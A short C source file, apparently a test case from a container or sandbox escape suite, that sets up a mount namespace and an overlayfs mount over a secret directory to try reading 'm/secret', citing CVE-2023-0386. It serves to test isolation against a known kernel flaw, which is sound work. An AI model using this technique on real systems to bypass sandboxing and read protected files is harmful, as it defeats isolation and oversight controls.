// An overlay over the home directory, as another file system, has other inodes (CVE-2023-0386's tool).
#include "escape.h"
int main(void)
{
	namespaces(CLONE_NEWNS);
	NEED(mkdir("m", 0755)), NEED(mkdir("u", 0755)), NEED(mkdir("w", 0755));
	char *options = NULL;
	asprintf(&options, "lowerdir=%s,upperdir=u,workdir=w", env("SECRET_DIR"));
	HOST(mount("o", "m", "overlay", 0, options));
	see(TRY(open("m/secret", O_RDONLY)));
}
